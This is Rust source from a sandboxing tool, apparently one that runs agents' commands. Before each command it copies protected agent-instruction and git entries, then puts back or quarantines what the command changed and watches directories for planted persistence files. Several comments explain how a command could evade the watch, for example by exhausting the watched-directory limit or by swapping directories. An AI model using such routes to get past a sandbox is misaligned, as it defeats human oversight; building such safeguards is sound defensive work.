    /// A placeholder that is a link is left to [`pinned_links`], which puts back a link the
    /// command re-pointed or replaced.
    /// `below`: the entries protected anywhere that [`ProjectDirs`] knows below the top
    /// (`sub/AGENTS.md`), relative to `root`.
    fn look_protected(
        root: &Path,
        last: Vec<Kept>,
        below: Vec<PathBuf>,
    ) -> Result<Vec<Kept>, String> {
        use sandbox::protected::{Bind, PROTECTED_IN_ROOT};
        let mut last: HashMap<PathBuf, Kept> = last
            .into_iter()
            .map(|kept| (kept.rel.clone(), kept))
            .collect();
        let root_fd = open_dir(rustix::fs::CWD, root)
            .map_err(|e| format!("the project could not be read ({e})"))?;
        let mut found: Vec<(PathBuf, &'static sandbox::protected::ProtectedPath)> = Vec::new();
        // One listing of the top finds the one-name entries and the classes
        // (`*.code-workspace`); an entry of two names (`.github/instructions`) is looked up.
        for name in
            dir_names(&root_fd).map_err(|e| format!("the project could not be read ({e})"))?
        {
            if let Some(entry) = sandbox::protected::entry_named(&name, true) {
                found.push((PathBuf::from(name), entry));
            }
        }
        for entry in PROTECTED_IN_ROOT.iter().filter(|p| p.name.contains('/')) {
            let rel = PathBuf::from(entry.name);
            if std::fs::symlink_metadata(root.join(&rel)).is_ok() {
                found.push((rel, entry));
            }
        }
        // Links below the top are kept here, as links: the pinned-links check looks at the top.
        let mut below_top = Vec::new();
        for rel in below {
            if let Some(entry) = rel
                .file_name()
                .and_then(|name| sandbox::protected::entry_named(name, false))
            {
                below_top.push(rel.clone());
                found.push((rel, entry));
            }
        }
        let mut budget = KeptBudget::default();
        let mut kept = Vec::new();
        let mut kept_rels: Vec<PathBuf> = Vec::new();
        let canonical_root = std::fs::canonicalize(root).ok();
        for (rel, entry) in found {
            if matches!(entry.bind, Bind::GitDir) || entry.name == ".gg" {
                continue;
            }
            let pinned = !below_top.contains(&rel)
                && entry.bind == Bind::Placeholder
                && !entry.is_class()
                && std::fs::symlink_metadata(root.join(&rel)).is_ok_and(|m| m.is_symlink());
            // The link itself is the pinned-links check's; what it leads to inside the project
            // (`AGENTS.md -> docs/agents.md`) is kept here, as the entry would be.
            let rel = if pinned {
                match std::fs::canonicalize(root.join(&rel))
                    .ok()
                    .zip(canonical_root.as_deref())
                    .and_then(|(target, root)| pinned_links::inside(root, &target))
                {
                    Some(target) => target,
                    None => continue,
                }
            } else {
                rel
            };
            // `AGENTS.md -> CLAUDE.md` with `CLAUDE.md` an entry itself: one copy.
            if kept_rels.contains(&rel) {
                continue;
            }
            kept_rels.push(rel.clone());
            let last = last.remove(&rel);
            let entry_kept = Kept::look_entry(root, &rel, entry.why, &[], last, &mut budget)?;
            kept.push(entry_kept);
        }
        Ok(kept)
    }

    /// Keeps `root/rel` (`why`: why, for the tool output; `own`: names at its top not kept)
    /// against `budget`, shared by the entries kept together; `last` as for [`Kept::look`].
    fn look_entry(
        root: &Path,
        rel: &Path,
        why: &'static str,
        own: &'static [&'static str],
        last: Option<Kept>,
        budget: &mut KeptBudget,
    ) -> Result<Kept, String> {
        use rustix::fs::{AtFlags, FileType};
        let racy_from = epoch_pair(SystemTime::now() - Duration::from_millis(50));
        let shown = rel.display();
        let too_large = |what: String| {
            format!(
                "the project's {shown} {what}, more than gg keeps a copy of before each command \
                 at the landlock level (where {shown} is not read-only to commands and gg puts \
                 back what a command changes there from that copy); run at the bubblewrap level \
                 (install bubblewrap), where it is read-only to commands, or make it smaller"
            )
        };
        let unreadable =
            |e: &dyn std::fmt::Display| format!("the project's {shown} could not be read ({e})");
        let (parent_fd, name) = open_parent(root, rel).map_err(|e| unreadable(&e))?;
        let mut own_areas: Vec<(&'static str, Option<Stamp>)> =
            own.iter().map(|name| (*name, None)).collect();
        let top = match rustix::fs::statat(&parent_fd, name, AtFlags::SYMLINK_NOFOLLOW) {
            Err(rustix::io::Errno::NOENT) => KeptTop::Absent,
            Err(e) => return Err(unreadable(&e)),
            Ok(stat) if FileType::from_raw_mode(stat.st_mode) == FileType::Directory => {
                let fd = open_dir(&parent_fd, name).map_err(|e| unreadable(&e))?;
                for (name, was) in &mut own_areas {
                    *was = rustix::fs::statat(&fd, *name, AtFlags::SYMLINK_NOFOLLOW)
                        .ok()
                        .map(|stat| Stamp::of(&stat));
                }
                let reuse = last.and_then(|last| match last.top {
                    KeptTop::Dir(dir) => Some((dir, last.racy_from)),
                    _ => None,
                });
                KeptTop::Dir(KeptDir::look(&fd, rel, 0, own, budget, reuse).map_err(
                    |e| match e {
                        KeepError::TooLarge(what) => too_large(what),
                        KeepError::Unreadable(what) => what,
                    },
                )?)
            }
            Ok(stat) => {
                let content = read_leaf(&parent_fd, name, &stat).map_err(|e| {
                    if e.starts_with("is larger") {
                        too_large(e)
                    } else {
                        unreadable(&e)
                    }
                })?;
                if let Content::File { bytes, .. } = &content {
                    budget.bytes += bytes.len() as u64;
                    if budget.bytes > KEPT_MAX_BYTES {
                        return Err(too_large(format!(
                            "brings what is kept to more than {} MiB",
                            KEPT_MAX_BYTES >> 20
                        )));
                    }
                }
                KeptTop::NotDir(content)
            }
        };
        Ok(Kept {
            rel: rel.to_path_buf(),
            why,
            own,
            top,
            own_areas,
            racy_from,
        })
    }

    /// After the command: puts the entry back as it was; a line about each thing done.
    fn sweep(&self, root: &Path) -> Vec<String> {
        use rustix::fs::{AtFlags, FileType};
        let mut lines = Vec::new();
        let why = self.why;
        let path = root.join(&self.rel);
        let (parent_fd, name) = match open_parent(root, &self.rel) {
            Ok(found) => found,
            Err(e) => {
                lines.push(format!(
                    "[gg: the directory holding {} could not be read after the command ({e}): \
                     look at it before starting gg or opening the project there again]",
                    self.rel.display()
                ));
                return lines;
            }
        };
        let now = rustix::fs::statat(&parent_fd, name, AtFlags::SYMLINK_NOFOLLOW).ok();
        let is_dir =
            |stat: &rustix::fs::Stat| FileType::from_raw_mode(stat.st_mode) == FileType::Directory;
        let made_by_command = KeptDir::default();
        let kept = match (&self.top, &now) {
            (KeptTop::Absent, None) => return lines,
            (KeptTop::Absent, Some(stat)) if !is_dir(stat) => {
                return quarantine(root, &[(path, why.to_string())]);
            }
            (KeptTop::Absent, Some(_)) => &made_by_command,
            (KeptTop::NotDir(content), _) => {
                if Content::of(&path).as_ref() != Some(content) {
                    lines.push(match now {
                        Some(_) => move_aside_and_put_back(root, &path, why, Some(content)),
                        None => put_back_removed(&parent_fd, root, &path, why, |dir, name| {
                            content.put_back(dir, name)
                        }),
                    });
                }
                return lines;
            }
            (KeptTop::Dir(kept), Some(stat)) if is_dir(stat) => {
                if stat.st_mode & 0o7777 != kept.mode {
                    lines.push(set_mode_back(&parent_fd, root, &path, why, kept.mode));
                }
                kept
            }
            // Removed, or replaced by a link or a file: what is there goes, the copy comes back.
            (KeptTop::Dir(kept), Some(_)) => {
                lines.push(replace_with_kept_dir(root, &path, why, kept));
                return lines;
            }
            (KeptTop::Dir(kept), None) => {
                lines.push(put_back_removed(
                    &parent_fd,
                    root,
                    &path,
                    why,
                    |dir, name| kept.put_back(dir, name),
                ));
                return lines;
            }
        };
        let fd = match open_dir(&parent_fd, name) {
            Ok(fd) => fd,
            Err(e) => {
                lines.push(format!(
                    "[gg: {} could not be read after the command ({e}): look at it before \
                     starting gg or opening the project there again]",
                    self.rel.display()
                ));
                return lines;
            }
        };
        // Its own areas (`.gg`'s): a directory or nothing. First, so that the quarantine can
        // be used.
        for (name, was) in &self.own_areas {
            if let Ok(stat) = rustix::fs::statat(&fd, *name, AtFlags::SYMLINK_NOFOLLOW)
                && !is_dir(&stat)
                && Some(Stamp::of(&stat)) != *was
            {
                lines.extend(quarantine(
                    root,
                    &[(
                        path.join(name),
                        format!("where gg keeps its {name}, which is gg's own directory"),
                    )],
                ));
            }
        }
        kept.compare(
            root,
            &fd,
            &self.rel,
            self.own,
            why,
            self.racy_from,
            &mut lines,
        );
        lines
    }
}

/// The directory holding `rel` (below `root`), opened without following a link on the way,
/// and `rel`'s last name.
fn open_parent<'a>(root: &Path, rel: &'a Path) -> std::io::Result<(OwnedFd, &'a OsStr)> {
    let name = rel
        .file_name()
        .ok_or_else(|| std::io::Error::other("it has no name"))?;
    let mut fd = open_dir(rustix::fs::CWD, root)?;
    if let Some(parent) = rel.parent() {
        for component in parent.components() {
            fd = open_dir(&fd, component.as_os_str())?;
        }
    }
    Ok((fd, name))
}

/// Why [`KeptDir::look`] could not keep an entry.
enum KeepError {
    /// Over a limit: fail closed.
    TooLarge(String),
    /// An entry could not be read (said with its path).
    Unreadable(String),
}

impl KeptDir {
    /// Keeps the directory open at `fd` (`rel`: its path in the project, for messages; `own`:
    /// names at the top, `depth` 0, that are not kept). `last`: the same directory in the last
    /// copy, and when that copy was made (its racy bound).
    fn look(
        fd: &OwnedFd,
        rel: &Path,
        depth: usize,
        own: &[&str],
        budget: &mut KeptBudget,
        mut last: Option<(KeptDir, (i64, i64))>,
    ) -> Result<KeptDir, KeepError> {
        use rustix::fs::{AtFlags, FileType};
        let unreadable = |rel: &Path, e: &dyn std::fmt::Display| {
            KeepError::Unreadable(format!("{} could not be read ({e})", rel.display()))
        };
        let stat = rustix::fs::fstat(fd).map_err(|e| unreadable(rel, &e))?;
        let mut dir = KeptDir {
            mode: stat.st_mode & 0o7777,
            entries: Default::default(),
        };
        for name in dir_names(fd).map_err(|e| unreadable(rel, &e))? {
            if depth == 0 && own.iter().any(|own| name == *own) {
                continue;
            }
            let path = rel.join(&name);
            budget.entries += 1;
            if budget.entries > KEPT_MAX_ENTRIES {
                return Err(KeepError::TooLarge(format!(
                    "has more than {KEPT_MAX_ENTRIES} entries"
                )));
            }
            let stat = rustix::fs::statat(fd, &name, AtFlags::SYMLINK_NOFOLLOW)
                .map_err(|e| unreadable(&path, &e))?;
            let stamp = Stamp::of(&stat);
            let was = last.as_mut().and_then(|(dir, racy_from)| {
                let entry = dir.entries.remove(&name)?;
                Some((entry, *racy_from))
            });
            let node = if FileType::from_raw_mode(stat.st_mode) == FileType::Directory {
                if depth + 1 >= KEPT_MAX_DEPTH {
                    return Err(KeepError::TooLarge(format!(
                        "has directories nested more than {KEPT_MAX_DEPTH} deep"
                    )));
                }
                let sub = open_dir(fd, &name).map_err(|e| unreadable(&path, &e))?;
                let last = was.and_then(|(entry, racy_from)| match entry.node {
                    KeptNode::Dir(dir) => Some((dir, racy_from)),
                    KeptNode::Leaf(_) => None,
                });
                KeptNode::Dir(KeptDir::look(&sub, &path, depth + 1, own, budget, last)?)
            } else {
                // Unchanged since it was read (a write would have moved its change time past
                // that copy's racy bound): the bytes kept then are its bytes now.
                let unchanged = was.and_then(|(entry, racy_from)| match entry.node {
                    KeptNode::Leaf(content)
                        if entry.stamp == stamp && entry.stamp.changed < racy_from =>
                    {
                        Some(content)
                    }
                    _ => None,
                });
                let content = match unchanged {
                    Some(content) => Ok(content),
                    None => read_leaf(fd, &name, &stat),
                }
                .map_err(|e| {
                    if e.starts_with("is larger") {
                        KeepError::TooLarge(format!("holds {}, which {e}", path.display()))
                    } else {
                        unreadable(&path, &e)
                    }
                })?;
                if let Content::File { bytes, .. } = &content {
                    budget.bytes += bytes.len() as u64;
                    if budget.bytes > KEPT_MAX_BYTES {
                        return Err(KeepError::TooLarge(format!(
                            "holds more than {} MiB",
                            KEPT_MAX_BYTES >> 20
                        )));
                    }
                }
                KeptNode::Leaf(content)
            };
            dir.entries.insert(name, KeptEntry { stamp, node });
        }
        Ok(dir)
    }

    /// After the command: compares the directory open at `fd` (`rel` in the project below
    /// `root`) with what was kept, putting back what the command changed or removed and moving
    /// aside what it added; `own`: names here that are not compared (the kept entry's own
    /// areas at its top, none below); `why`: why it is kept, for the tool output.
    #[allow(clippy::too_many_arguments)]
    fn compare(
        &self,
        root: &Path,
        fd: &OwnedFd,
        rel: &Path,
        own: &[&str],
        why: &'static str,
        racy_from: (i64, i64),
        lines: &mut Vec<String>,
    ) {
        use rustix::fs::AtFlags;
        let now = match dir_names(fd) {
            Ok(names) => names,
            Err(e) => {
                lines.push(format!(
                    "[gg: {} could not be read after the command ({e}): look at it before \
                     starting gg there again]",
                    rel.display()
                ));
                return;
            }
        };
        for name in &now {
            if own.iter().any(|own| name == *own) {
                continue;
            }
            let path = root.join(rel).join(name);
            let Ok(stat) = rustix::fs::statat(fd, name, AtFlags::SYMLINK_NOFOLLOW) else {
                continue;
            };
            let stamp = Stamp::of(&stat);
            match self.entries.get(name) {
                None => lines.extend(quarantine(root, &[(path, why.to_string())])),
                Some(KeptEntry {
                    node: KeptNode::Dir(kept),
                    ..
                }) if stamp.is_dir() => {
                    if stat.st_mode & 0o7777 != kept.mode {
                        lines.push(set_mode_back(fd, root, &path, why, kept.mode));
                    }
                    match open_dir(fd, name) {
                        Ok(sub) => {
                            kept.compare(root, &sub, &rel.join(name), &[], why, racy_from, lines)
                        }
                        Err(e) => lines.push(format!(
                            "[gg: {} could not be read after the command ({e}): look at it \
                             before starting gg there again]",
                            path.display()
                        )),
                    }
                }
                Some(KeptEntry {
                    node: KeptNode::Dir(kept),
                    ..
                }) => lines.push(replace_with_kept_dir(root, &path, why, kept)),
                Some(KeptEntry {
                    stamp: was,
                    node: KeptNode::Leaf(content),
                }) => {
                    let same = stamp == *was
                        && (was.changed < racy_from
                            || read_leaf(fd, name, &stat).ok().as_ref() == Some(content));
                    if !same {
                        lines.push(move_aside_and_put_back(root, &path, why, Some(content)));
                    }
                }
            }
        }
        let now: std::collections::HashSet<&OsString> = now.iter().collect();
        for (name, entry) in &self.entries {
            if !now.contains(name) {
                let path = root.join(rel).join(name);
                lines.push(put_back_removed(fd, root, &path, why, |dir, name| {
                    entry.put_back(dir, name)
                }));
            }
        }
    }

    /// Makes it again as `name` in `dir`, with everything in it; goes on past an entry that
    /// cannot be put back and returns the first such error.
    fn put_back(&self, dir: &OwnedFd, name: &OsStr) -> std::io::Result<()> {
        use rustix::fs::Mode;
        rustix::fs::mkdirat(dir, name, Mode::from_raw_mode(0o700))?;
        let fd = open_dir(dir, name)?;
        let mut first_error = None;
        for (entry_name, entry) in &self.entries {
            if let Err(e) = entry.put_back(&fd, entry_name) {
                first_error.get_or_insert(e);
            }
        }
        rustix::fs::fchmod(&fd, Mode::from_raw_mode(self.mode))?;
        first_error.map_or(Ok(()), Err)
    }
}

impl KeptEntry {
    fn put_back(&self, dir: &OwnedFd, name: &OsStr) -> std::io::Result<()> {
        match &self.node {
            KeptNode::Dir(kept) => kept.put_back(dir, name),
            KeptNode::Leaf(content) => content.put_back(dir, name),
        }
    }
}

/// gg's own write areas in `.gg`, not kept (see [`Kept`]).
const GG_OWN_AREAS: &[&str] = &["outputs", "quarantine"];

/// Moves what the command left at `path` (where a directory of `.gg` was) aside and makes the
/// kept directory again there; the line that says so.
fn replace_with_kept_dir(root: &Path, path: &Path, why: &str, kept: &KeptDir) -> String {
    let name = shown(root, path);
    match set_aside(root, path) {
        Ok((spot, aside)) => {
            let theirs = match &aside {
                Aside::Quarantined(target) => format!("its version moved to {}", target.display()),
                Aside::Deleted(refused) => format!("its version deleted ({refused})"),
            };
            match kept.put_back(&spot.dir, &spot.name) {
                Ok(()) => format!(
                    "[gg: the command replaced the directory {name}, {why}; {theirs}, the \
                     previous one put back]"
                ),
                Err(e) => format!(
                    "[gg: the command replaced the directory {name}, {why}; {theirs}, and the \
                     previous one could not be put back ({e})]"
                ),
            }
        }
        Err(e) => format!(
            "[gg: the command replaced the directory {name}, {why}, and its version could not \
             be moved aside ({e}): look at it before starting gg there again]"
        ),
    }
}

/// Puts back what the command removed at `path` (in the directory open at `dir`) with `put`;
/// the line that says so.
fn put_back_removed(
    dir: &OwnedFd,
    root: &Path,
    path: &Path,
    why: &str,
    put: impl FnOnce(&OwnedFd, &OsStr) -> std::io::Result<()>,
) -> String {
    let name = shown(root, path);
    let result = match path.file_name() {
        Some(file_name) => put(dir, file_name),
        None => Err(std::io::Error::other("it has no name")),
    };
    match result {
        Ok(()) => format!("[gg: the command removed {name}, {why}; put back]"),
        Err(e) => {
            format!("[gg: the command removed {name}, {why}, and it could not be put back ({e})]")
        }
    }
}

/// Sets the permissions of the directory `path` (in the directory open at `dir`) back to `mode`;
/// the line that says so.
fn set_mode_back(dir: &OwnedFd, root: &Path, path: &Path, why: &str, mode: u32) -> String {
    use rustix::fs::{AtFlags, Mode};
    let name = shown(root, path);
    // A directory (just `stat`ed without following a link, and the command has ended): its
    // mode is set by name, since one the command made unreadable cannot be opened first.
    let result = match path.file_name() {
        Some(file_name) => {
            rustix::fs::chmodat(dir, file_name, Mode::from_raw_mode(mode), AtFlags::empty())
                .map_err(std::io::Error::from)
        }
        None => Err(std::io::Error::other("it has no name")),
    };
    match result {
        Ok(()) => {
            format!("[gg: the command changed the permissions of {name}, {why}; put back]")
        }
        Err(e) => format!(
            "[gg: the command changed the permissions of {name}, {why}, and they could not be \
             put back ({e})]"
        ),
    }
}

/// `path` as the tool output names it: relative to the project.
fn shown(root: &Path, path: &Path) -> String {
    path.strip_prefix(root)
        .unwrap_or(path)
        .display()
        .to_string()
}

/// The directory `name` in `dir`, opened without following a link.
fn open_dir(dir: impl std::os::fd::AsFd, name: impl rustix::path::Arg) -> std::io::Result<OwnedFd> {
    use rustix::fs::{Mode, OFlags};
    Ok(rustix::fs::openat(
        dir,
        name,
        OFlags::RDONLY | OFlags::DIRECTORY | OFlags::NOFOLLOW | OFlags::CLOEXEC,
        Mode::empty(),
    )?)
}

/// The names in the directory open at `fd`, but `.` and `..`.
fn dir_names(fd: &OwnedFd) -> std::io::Result<Vec<OsString>> {
    use std::os::unix::ffi::OsStrExt;
    let mut names = Vec::new();
    for entry in rustix::fs::Dir::read_from(fd)? {
        let entry = entry?;
        let name = entry.file_name().to_bytes();
        if name != b"." && name != b".." {
            names.push(OsStr::from_bytes(name).to_os_string());
        }
    }
    Ok(names)
}

/// What `name` in `dir` is, with `stat` its `lstat`: a regular file's bytes (opened with
/// `O_NOFOLLOW|O_NONBLOCK` and checked again with `fstat`, so a FIFO swapped in cannot block),
/// a link's target (not followed), anything else by its identity. `Err` says why not.
fn read_leaf(dir: &OwnedFd, name: &OsStr, stat: &rustix::fs::Stat) -> Result<Content, String> {
    use rustix::fs::{FileType, Mode, OFlags};
    use std::io::Read;
    use std::os::unix::ffi::OsStringExt;
    let stamp = Stamp::of(stat);
    match FileType::from_raw_mode(stat.st_mode) {
        FileType::Symlink => rustix::fs::readlinkat(dir, name, Vec::new())
            .map(|target| Content::Link(PathBuf::from(OsString::from_vec(target.into_bytes()))))
            .map_err(|e| e.to_string()),
        FileType::RegularFile => {
            let too_large = || format!("is larger than {} MiB", MAX_KEPT >> 20);
            if stamp.size > MAX_KEPT {
                return Err(too_large());
            }
            let fd = rustix::fs::openat(
                dir,
                name,
                OFlags::RDONLY
                    | OFlags::NONBLOCK
                    | OFlags::NOFOLLOW
                    | OFlags::NOCTTY
                    | OFlags::CLOEXEC,
                Mode::empty(),
            )
            .map_err(|e| e.to_string())?;
            let opened = rustix::fs::fstat(&fd).map_err(|e| e.to_string())?;
            if Stamp::of(&opened).ino != stamp.ino
                || FileType::from_raw_mode(opened.st_mode) != FileType::RegularFile
            {
                return Err("changed while it was read".to_string());
            }
            let mut bytes = Vec::new();
            std::fs::File::from(fd)
                .take(MAX_KEPT + 1)
                .read_to_end(&mut bytes)
                .map_err(|e| e.to_string())?;
            if bytes.len() as u64 > MAX_KEPT {
                return Err(too_large());
            }
            Ok(Content::File {
                bytes,
                mode: stamp.mode,
            })
        }
        _ => Ok(Content::Other {
            ino: stamp.ino,
            changed: SystemTime::UNIX_EPOCH.checked_add(Duration::new(
                u64::try_from(stamp.changed.0).unwrap_or_default(),
                u32::try_from(stamp.changed.1).unwrap_or_default(),
            )),
        }),
    }
}

/// A time as the seconds and nanoseconds of a change time.
fn epoch_pair(time: SystemTime) -> (i64, i64) {
    let since = time
        .duration_since(SystemTime::UNIX_EPOCH)
        .unwrap_or_default();
    (
        i64::try_from(since.as_secs()).unwrap_or(i64::MAX),
        i64::from(since.subsec_nanos()),
    )
}

/// Directories below the project that a sweep does not look in: dependencies and build output,
/// large and rewritten by ordinary commands, where no agent, editor or git is started.
const UNWATCHED: &[&str] = &["node_modules", "target", ".venv"];

/// The most of the project's own directories [`ProjectDirs`] keeps from its first walk (breadth
/// first): each costs an inotify watch, and a `stat` per sandboxed command where inotify is not
/// available (2–3 µs measured, so 5,000 add at most ~12 ms to a command). Deeper ones of a
/// larger project are not looked in until a change in their parent makes the sweep read them
/// (said in the security model).
const MAX_DIRS: usize = 5_000;

/// The most directories [`ProjectDirs`] keeps at all. What appears after the first walk (a
/// command's directories, or the person's) is kept whatever [`MAX_DIRS`] says: otherwise a
/// command could make directories until a chosen one is no longer watched, and plant there in
/// the next. Past this the picture is not grown any more and every sweep reads the whole
/// project instead (slow, but nothing is hidden by it).
const HARD_MAX_DIRS: usize = 200_000;

/// [`HARD_MAX_DIRS`], or a lower one a test-hooks build is given (`GG_TEST_SWEEP_HARD_MAX`), so
/// that the tests reach the whole-project walk without making 200,000 directories.
fn hard_max_dirs() -> usize {
    #[cfg(feature = "test-hooks")]
    if let Some(max) = std::env::var("GG_TEST_SWEEP_HARD_MAX")
        .ok()
        .and_then(|v| v.parse().ok())
    {
        return max;
    }
    HARD_MAX_DIRS
}

/// What a directory held when it was last read.
struct Seen {
    /// Its change time: a new, removed or renamed entry changes it.
    changed: Option<SystemTime>,
    /// Its inode: another directory moved to its path (two swapped) is read as a new one.
    ino: u64,
    /// Its entries that are persistence vectors.
    vectors: Vec<OsString>,
    /// Whether git takes it for a git directory ([`is_git_like`]).
    git_like: bool,
}

/// The session's picture of the project's directories below the top (the top and `.git` have
/// [`Before`]'s own checks; `.gg` is gg's, read-only to commands), kept between commands. With
/// inotify (Linux), a command costs reading the events of the directories it changed; without it
/// (or when its queue overflowed, or a directory was moved), one `stat` per directory.
#[derive(Default)]
pub struct ProjectDirs {
    seen: HashMap<PathBuf, Seen>,
    built: bool,
    /// During the first walk, which keeps at most [`MAX_DIRS`].
    first_walk: bool,
    /// [`hard_max_dirs`], read at the first walk.
    hard_max: usize,
    /// Set once a directory could not be kept ([`HARD_MAX_DIRS`]): from then on every sweep
    /// reads the whole project.
    walk_all: bool,
    /// Nested git directories (and git directories under other names, and `.git` files naming
    /// one) that were clean when first seen.
    clean: std::collections::HashSet<PathBuf>,
    #[cfg(target_os = "linux")]
    watch: Option<Watch>,
    /// The directory `core.hooksPath` names in the work tree, asked of git once and again only
    /// when `.git/config` changes (the identity of the file it was asked with).
    hooks_path: Option<(Option<ConfigStamp>, Option<PathBuf>)>,
    /// The copy of `.gg` kept before the last command at the landlock level ([`Kept`]).
    gg_kept: Option<Kept>,
    /// The copies of the other protected entries kept before the last command there.
    protected_kept: Vec<Kept>,
}

/// What tells one `.git/config` from another cheaply: its inode mixed with its size, and its
/// modification time.
type ConfigStamp = (u64, Option<SystemTime>);

/// An inotify instance watching every directory in [`ProjectDirs`].
#[cfg(target_os = "linux")]
struct Watch {
    fd: std::os::fd::OwnedFd,
    dirs: HashMap<i32, PathBuf>,
}

#[cfg(target_os = "linux")]
impl Watch {
    /// What changes a directory's entries or a file in it (not reads, not `IN_MODIFY`'s flood:
    /// a written file is seen when it is closed).
    fn flags() -> rustix::fs::inotify::WatchFlags {
        use rustix::fs::inotify::WatchFlags as W;
        W::CREATE
            | W::DELETE
            | W::MOVED_FROM
            | W::MOVED_TO
            | W::ATTRIB
            | W::CLOSE_WRITE
            | W::DELETE_SELF
            | W::MOVE_SELF
            | W::ONLYDIR
            | W::DONT_FOLLOW
    }

    fn add(&mut self, dir: &Path) -> bool {
        match rustix::fs::inotify::add_watch(&self.fd, dir, Watch::flags()) {
            Ok(wd) => {
                self.dirs.insert(wd, dir.to_path_buf());
                true
            }
            Err(_) => false,
        }
    }

    /// The directories with events since the last call; `None` when events were lost (the
    /// queue overflowed or could not be read) or a directory was moved: a watch stays with its
    /// directory, so after a move (two directories swapped) the path a watch was added under
    /// is no longer where its events happen.
    fn changed(&mut self) -> Option<Vec<PathBuf>> {
        use rustix::fs::inotify::ReadFlags;
        let mut buf = [std::mem::MaybeUninit::<u8>::uninit(); 16 * 1024];
        let mut reader = rustix::fs::inotify::Reader::new(&self.fd, &mut buf);
        let mut changed = std::collections::HashSet::new();
        let mut lost = false;
        // The whole queue is read either way, so that the next call starts afresh.
        loop {
            match reader.next() {
                Ok(event) => {
                    let flags = event.events();
                    let dir_moved = flags.contains(ReadFlags::MOVE_SELF)
                        || (flags.contains(ReadFlags::ISDIR)
                            && flags.intersects(ReadFlags::MOVED_FROM | ReadFlags::MOVED_TO));
                    if flags.contains(ReadFlags::QUEUE_OVERFLOW) || dir_moved {
                        lost = true;
                    }
                    if let Some(dir) = self.dirs.get(&event.wd()) {
                        changed.insert(dir.clone());
                    }
                    if flags.contains(ReadFlags::IGNORED) {
                        self.dirs.remove(&event.wd());
                    }
                }
                Err(rustix::io::Errno::AGAIN) => break,
                Err(_) => {
                    lost = true;
                    break;
                }
            }
        }
        (!lost).then(|| changed.into_iter().collect())
    }

    /// Watches each of `dirs` by the path it has now. inotify gives the directory it already
    /// watches its watch again, so the map from watches to paths is right again; a watch left
    /// on a directory that is no longer kept is removed. `false` when one cannot be added.
    fn rebuild<'a>(&mut self, dirs: impl Iterator<Item = &'a PathBuf>) -> bool {
        let mut map = HashMap::new();
        for dir in dirs {
            match rustix::fs::inotify::add_watch(&self.fd, dir, Watch::flags()) {
                Ok(wd) => {
                    map.insert(wd, dir.clone());
                }
                Err(_) => return false,
            }
        }
        for wd in self.dirs.keys() {
            if !map.contains_key(wd) {
                let _ = rustix::fs::inotify::remove_watch(&self.fd, *wd);
            }
        }
        self.dirs = map;
        true
    }
}

impl ProjectDirs {
    pub fn new() -> ProjectDirs {
        ProjectDirs::default()
    }

    /// Brings the picture up to date and returns what became a persistence vector at or after
    /// `since` (`None`: records only), with why. Only the directories that changed are read
    /// again: those inotify reported, else those whose change time (or inode) moved (a `stat`
    /// each).
    fn refresh(&mut self, root: &Path, since: Option<SystemTime>) -> Vec<(PathBuf, String)> {
        let mut found = Vec::new();
        if !self.built {
            // Breadth first, so that in a project over the limit the shallow directories, where
            // people start agents and editors, are the ones watched.
            self.built = true;
            self.first_walk = true;
            self.hard_max = hard_max_dirs();
            #[cfg(target_os = "linux")]
            if inotify_wanted() {
                use rustix::fs::inotify::CreateFlags;
                self.watch =
                    rustix::fs::inotify::init(CreateFlags::NONBLOCK | CreateFlags::CLOEXEC)
                        .ok()
                        .map(|fd| Watch {
                            fd,
                            dirs: HashMap::new(),
                        });
            }
            let mut queue = std::collections::VecDeque::from([root.to_path_buf()]);
            while let Some(dir) = queue.pop_front() {
                queue.extend(self.read(root, &dir, None, false, false, &mut found));
            }
            self.first_walk = false;
            return found;
        }
        let mut gone = Vec::new();
        let mut moved = Vec::new();
        #[cfg(target_os = "linux")]
        let reported = self.watch.as_mut().and_then(Watch::changed);
        #[cfg(not(target_os = "linux"))]
        let reported: Option<Vec<PathBuf>> = None;
        // Watching, but the events do not say where (lost, or a directory moved).
        let rebuild = reported.is_none() && self.watching();
        match reported {
            Some(dirs) => {
                for dir in dirs {
                    match std::fs::symlink_metadata(&dir) {
                        Ok(meta) if meta.is_dir() => moved.push(dir),
                        _ => gone.push(dir),
                    }
                }
            }
            None => {
                use std::os::unix::fs::MetadataExt;
                for (dir, seen) in &self.seen {
                    match std::fs::symlink_metadata(dir) {
                        Ok(meta) if meta.is_dir() => {
                            if meta.created_or_changed() != seen.changed || meta.ino() != seen.ino {
                                moved.push(dir.clone());
                            }
                        }
                        _ => gone.push(dir.clone()),
                    }
                }
            }
        }
        self.forget(gone);
        for dir in moved {
            if self.seen.contains_key(&dir) {
                self.read(root, &dir, since, false, true, &mut found);
            }
        }
        #[cfg(target_os = "linux")]
        if rebuild
            && let Some(watch) = self.watch.as_mut()
            && !watch.rebuild(self.seen.keys())
        {
            self.watch = None;
        }
        #[cfg(not(target_os = "linux"))]
        let _ = rebuild;
        if self.walk_all && since.is_some() {
            self.walk_unkept(root, since, &mut found);
        }
        found.extend(self.judge_clean(root, since.is_some()));
        found
    }

    /// Past [`HARD_MAX_DIRS`]: reads every directory of the project that is not kept (kept ones
    /// had their changes read already), judging what changed at or after `since` as in a
    /// sweep.
    fn walk_unkept(
        &mut self,
        root: &Path,
        since: Option<SystemTime>,
        found: &mut Vec<(PathBuf, String)>,
    ) {
        let mut queue = std::collections::VecDeque::from([root.to_path_buf()]);
        while let Some(dir) = queue.pop_front() {
            if self.seen.contains_key(&dir) {
                queue.extend(subdirectories(root, &dir));
            } else {
                self.read(root, &dir, since, false, false, found);
                queue.extend(subdirectories(root, &dir));
            }
        }
    }

    /// Reads `dir` (again). With `since` (a sweep), what changed at or after it is the
    /// command's: a vector entry changed then (created, written, renamed in: each sets the
    /// change time, which no program can set back), a new `.git` git would not have written, a
    /// new subdirectory (read whole, and `fresh` when it is itself the command's: everything in
    /// it counts, whenever it was made), a directory that became a git directory. New
    /// subdirectories are read at once when `descend`, else returned.
    fn read(
        &mut self,
        root: &Path,
        dir: &Path,
        since: Option<SystemTime>,
        fresh: bool,
        descend: bool,
        found: &mut Vec<(PathBuf, String)>,
    ) -> Vec<PathBuf> {
        use std::os::unix::fs::MetadataExt;
        let mut later = Vec::new();
        // The first walk keeps the person's directories up to its limit (its parent reads a
        // directory past it again when it changes); after it, everything is kept up to the
        // hard limit, past which every sweep reads the whole project. A directory not kept is
        // still read in a sweep, so that a command cannot hide what it made behind
        // directories it made first.
        let limit = if self.first_walk {
            MAX_DIRS.min(self.hard_max)
        } else {
            self.hard_max
        };
        let keep = self.seen.len() < limit || self.seen.contains_key(dir);
        if !keep && !self.first_walk {
            self.walk_all = true;
        }
        if !keep && since.is_none() {
            return later;
        }
